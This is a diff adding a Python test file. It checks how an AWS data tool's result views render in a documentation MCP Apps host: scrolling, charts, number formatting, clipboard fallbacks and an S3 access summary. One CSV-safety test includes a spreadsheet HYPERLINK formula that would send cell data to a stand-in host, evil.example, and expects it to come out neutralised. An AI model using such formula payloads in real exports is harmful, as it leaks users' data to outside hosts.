@@ -1,0 +1,129 @@
+"""Both views in a second MCP Apps host, written from the ext-apps documentation alone (views/test/docs-host.ts):
+the host on its own origin, a sandbox proxy on a second one (views/test/sandbox.html), the view in the proxy's
+srcdoc frame under a CSP with no domain, headless Chromium, a running demo server. What an analyst checks: scrolling
+to the end of 2,000 rows reads the next page, charts only where they mean something, numbers and dates written for
+people, the CSV safe to open in a spreadsheet, every action possible in a host without download or clipboard, the
+host's maximum height, and the access view in words. Screenshots of each state go to docs/images when
+AWS_DATA_MCP_SCREENSHOTS names that folder (else a temporary one)."""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from aws_data_mcp.demo.account import DemoAccount
+from support.browser import demo_server, missing, node
+
+MAX_DECIMALS = 6
+
+
+@pytest.fixture(scope="module")
+def seen(demo: DemoAccount, tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
+    """What the documentation host showed (views/test/independent.mjs), driven against the demo."""
+    reason = missing()
+    if reason:
+        pytest.skip(reason)
+    shots = Path(os.environ.get("AWS_DATA_MCP_SCREENSHOTS") or tmp_path_factory.mktemp("screenshots"))
+    with demo_server(demo, tmp_path_factory.mktemp("built")) as url:
+        yield json.loads(node("test/independent.mjs", url, str(shots), timeout=300))
+
+
+def decimals(cells: list[str]) -> int:
+    return max((len(m.group(1)) for cell in cells for m in re.finditer(r"\d\.(\d+)", cell)), default=0)
+
+
+def test_scrolling_to_the_end_of_two_thousand_rows_reads_the_next_page_through_the_host(seen: dict[str, Any]) -> None:
+    keyed = seen["keyed"]
+    assert keyed["rows"] == 1000 and keyed["count"].startswith("rows 1\u20131,000, more to read")
+    assert keyed["after_scroll"] == 2000  # by the mouse wheel, no button pressed
+    assert len(keyed["reads"]) == 1 and keyed["reads"][0].startswith("resources/read athena://queries/")
+
+
+def test_a_result_keyed_by_order_id_draws_no_chart_and_a_grouped_one_does(seen: dict[str, Any]) -> None:
+    assert seen["keyed"]["charts"] == 0
+    chart = seen["grouped"]["chart"]
+    assert chart["label"] == "orders by channel" and chart["bars"] == seen["grouped"]["rows"] == 3
+    assert chart["titles"] == ["channel", "orders"] and chart["x_labels"] == ["mobile", "store", "web"]
+    assert chart["ticks"] == ["0", "1,000", "2,000", "3,000", "4,000", "5,000"]  # nice ticks, the table's grouping
+    assert chart["width"] == chart["table_width"]  # the full width
+    # A choice of measure, and avg_price charted when chosen.
+    assert seen["grouped"]["measures"] == ["orders", "total_amount", "avg_price"]
+    assert seen["grouped"]["avg_chart"]["label"] == "avg_price by channel"
+    assert seen["grouped"]["avg_chart"]["bars"] == 3
+    # A daily series is a line over its dates; every row is drawn, so no "first N of M" note.
+    assert seen["daily"]["label"] == "orders by order_date" and seen["daily"]["chart_note"] == 0
+    assert seen["daily"]["x_labels"][:2] == ["Jan 1", "Jan 3"]  # short dates, as many as fit
+
+
+def test_numbers_dates_and_money_are_written_for_people(seen: dict[str, Any]) -> None:
+    for state in ("keyed", "grouped", "daily"):
+        assert seen[state]["most_decimals"] <= MAX_DECIMALS
+    cells = seen["grouped"]["cells"]
+    assert cells[:5] == ["mobile", "4,864", "1,239,942.63", "254.92", "Jan 7, 2026, 23:55:42"], cells
+    # The value as Athena gave it stays on hover (and is what a click copies and the CSV holds).
+    assert "254.9224157072368" in seen["grouped"]["titles"] and "2026-01-07T23:55:42.000" in seen["grouped"]["titles"]
+    daily = seen["daily"]["cells"]
+    assert daily[0] == "Jan 1, 2026" and seen["daily"]["first_title"] == "2026-01-01"
+    assert daily[3].startswith("\u20ac") and "," in daily[3]  # EUR, said by the currency column
+
+
+def test_the_csv_neutralises_formulas_and_keeps_numbers(seen: dict[str, Any]) -> None:
+    formulas = seen["formulas"]
+    expected = ["label,n,x", '"\'=HYPERLINK(""http://evil.example/?d=""&A1,""click"")",-2,1.50', "'@SUM(1+1),3,-0.25",
+                "'+1+1,-7,2.00", "'-2+3,0,1.00"]
+    assert formulas["downloaded"].split("\r\n")[:-1] == expected
+    # A host without download support: the button says what it does, and the CSV is shown to select.
+    assert "Download CSV" in formulas["buttons"] and "Download CSV" not in formulas["buttons_without_download"]
+    assert "Show CSV" in formulas["buttons_without_download"]
+    assert formulas["shown"].split("\n")[:-1] == expected
+
+
+def test_a_wide_result_keeps_its_first_column_and_cuts_long_values_whole_on_copy(seen: dict[str, Any]) -> None:
+    wide = seen["wide"]
+    assert wide["columns"] == 13 and wide["scrolled"] > 100 and wide["charts"] == 0  # a listing by order_id
+    assert wide["first_left"] - wide["box_left"] <= 2  # still at the left edge, scrolled sideways to the end
+    assert wide["long"].endswith("\u2026") and len(wide["long"]) <= 61
+    assert wide["long_title"] == wide["copied"] and wide["copied"].endswith(" in USD")
+
+
+def test_a_click_on_a_cell_copies_athenas_value_where_the_host_grants_the_clipboard(seen: dict[str, Any]) -> None:
+    copied = seen["grouped"]["copy"]
+    assert copied == {"toast": ["Copied"], "box": 0, "clipboard": "254.9224157072368"}  # shown as 254.92
+    assert seen["explainer"]["copy_buttons"] == ["Copy"]
+
+
+def test_every_action_works_in_a_host_without_its_features(seen: dict[str, Any]) -> None:
+    # No clipboard permission: a click on a cell shows the whole value, selected, to copy by hand.
+    assert seen["keyed"]["copy_box"] == "ORD-1000000" and "does not let the view copy" in seen["keyed"]["copy_title"]
+    # Stopped by the cutoff: nothing to download and no empty row count.
+    assert seen["cutoff"]["buttons"] == [] and "rows 0" not in seen["cutoff"]["text"]
+
+
+def test_the_views_keep_within_the_hosts_maximum_height_and_report_no_empty_size(seen: dict[str, Any]) -> None:
+    sizes = seen["keyed"]["sizes"]
+    assert sizes and all(100 < size <= 600 for size in sizes), sizes
+
+
+def test_the_access_view_speaks_in_sentences(seen: dict[str, Any]) -> None:
+    access = seen["access"]
+    assert access["legend"].split("\n") == ["Of 6 buckets:", "you can write to 1", "you can read 3",
+                                            "you can only list 1", "you can reach none of 1"]
+    assert "Reading an object (s3:GetObject) was denied." in access["detail"]
+    assert "The write simulation weighed only the caller's IAM policies, not the bucket policy." in access["detail"]
+    assert "simulated_with_bucket_policy" not in access["detail"]
+    explained = seen["explainer"]
+    if explained["answer_summary"]:  # the explainer's one-line summary (where the server gives one) comes first
+        assert explained["first_line"] == explained["answer_summary"]
+    assert "The check failed (access denied): Access denied" in explained["detail"]
+    assert explained["overflowing"] == 0  # long fixes and "governed by" wrap, nothing clipped
+
+
+def test_no_network_request_and_no_error_in_the_documentation_host(seen: dict[str, Any]) -> None:
+    assert seen["network"] == []
+    assert seen["errors"] == []
